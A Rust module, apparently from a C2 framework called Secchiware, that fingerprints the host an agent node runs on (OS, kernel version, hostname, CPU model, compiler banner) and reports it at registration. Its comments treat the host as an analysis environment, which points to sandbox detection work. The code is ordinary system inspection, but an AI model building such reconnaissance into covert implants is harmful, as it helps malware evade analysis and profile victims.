//! Platform fingerprint of an analysis environment.
//!
//! Sent by a node when it registers and persisted by the C2 with the
//! session. The `runtime` section describes the toolchain the node binary
//! was produced with; `build` is a `[build, date]` pair as on the wire.

use std::process::Command;

use serde::{Deserialize, Serialize};

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct OsInfo {
    pub system: String,
    pub release: String,
    pub version: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct HardwareInfo {
    pub machine: String,
    pub processor: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct RuntimeInfo {
    pub build: (String, String),
    pub compiler: String,
    pub implementation: String,
    pub version: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PlatformInfo {
    pub platform: String,
    pub node: String,
    pub os: OsInfo,
    pub hardware: HardwareInfo,
    pub runtime: RuntimeInfo,
}

/// Gathers the fingerprint of the running environment.
///
/// Values that cannot be probed degrade to `"unknown"` rather than failing
/// registration; an analysis environment that hides `uname` is itself a
/// data point.
pub fn gather() -> PlatformInfo {
    let system = match std::env::consts::OS {
        "linux" => "Linux".to_string(),
        "windows" => "Windows".to_string(),
        "macos" => "Darwin".to_string(),
        other => other.to_string(),
    };
    let release = uname("-r");
    let version = uname("-v");
    let machine = std::env::consts::ARCH.to_string();
    let processor = processor_name().unwrap_or_else(|| machine.clone());
    let node = hostname();

    PlatformInfo {
        platform: format!("{system}-{release}-{machine}"),
        node,
        os: OsInfo {
            system,
            release,
            version,
        },
        hardware: HardwareInfo { machine, processor },
        runtime: rustc_fingerprint(env!("SECCHIWARE_RUSTC_BANNER")),
    }
}

/// Parses a `rustc -V` banner like
/// `rustc 1.84.0 (9fc6b4312 2025-01-07)` into the runtime section.
fn rustc_fingerprint(banner: &str) -> RuntimeInfo {
    let mut version = "unknown".to_string();
    let mut build = ("unknown".to_string(), "unknown".to_string());

    let mut words = banner.split_whitespace();
    if words.next() == Some("rustc") {
        if let Some(v) = words.next() {
            version = v.to_string();
        }
        let rest: Vec<&str> = words.collect();
        if rest.len() >= 2 {
            build = (
                rest[0].trim_start_matches('(').to_string(),
                rest[1].trim_end_matches(')').to_string(),
            );
        }
    }

    RuntimeInfo {
        build,
        compiler: banner.to_string(),
        implementation: "rustc".to_string(),
        version,
    }
}

fn uname(flag: &str) -> String {
    probe("uname", &[flag]).unwrap_or_else(|| "unknown".to_string())
}

fn hostname() -> String {
    probe("uname", &["-n"])
        .or_else(|| std::env::var("HOSTNAME").ok())
        .or_else(|| std::env::var("COMPUTERNAME").ok())
        .unwrap_or_else(|| "unknown".to_string())
}

fn processor_name() -> Option<String> {
    let cpuinfo = std::fs::read_to_string("/proc/cpuinfo").ok()?;
    cpuinfo
        .lines()
        .find(|l| l.starts_with("model name"))
        .and_then(|l| l.split_once(':'))
        .map(|(_, v)| v.trim().to_string())
}

fn probe(program: &str, args: &[&str]) -> Option<String> {
    let output = Command::new(program).args(args).output().ok()?;
    if !output.status.success() {
        return None;
    }
    let text = String::from_utf8_lossy(&output.stdout).trim().to_string();
    (!text.is_empty()).then_some(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn gather_fills_every_field() {
        let info = gather();
        assert!(!info.platform.is_empty());
        assert!(!info.os.system.is_empty());
        assert!(!info.hardware.machine.is_empty());
        assert_eq!(info.runtime.implementation, "rustc");
    }

    #[test]
    fn rustc_banner_parsing() {
        let runtime = rustc_fingerprint("rustc 1.84.0 (9fc6b4312 2025-01-07)");
        assert_eq!(runtime.version, "1.84.0");
        assert_eq!(
            runtime.build,
            ("9fc6b4312".to_string(), "2025-01-07".to_string())
        );
        assert_eq!(runtime.compiler, "rustc 1.84.0 (9fc6b4312 2025-01-07)");
    }

    #[test]
    fn degenerate_banner_degrades_to_unknown() {
        let runtime = rustc_fingerprint("mystery toolchain");
        assert_eq!(runtime.version, "unknown");
        assert_eq!(runtime.build.0, "unknown");
    }

    #[test]
    fn build_serializes_as_a_two_element_array() {
        let info = rustc_fingerprint("rustc 1.84.0 (9fc6b4312 2025-01-07)");
        let json = serde_json::to_value(&info).unwrap();
        assert_eq!(json["build"], serde_json::json!(["9fc6b4312", "2025-01-07"]));
    }
}
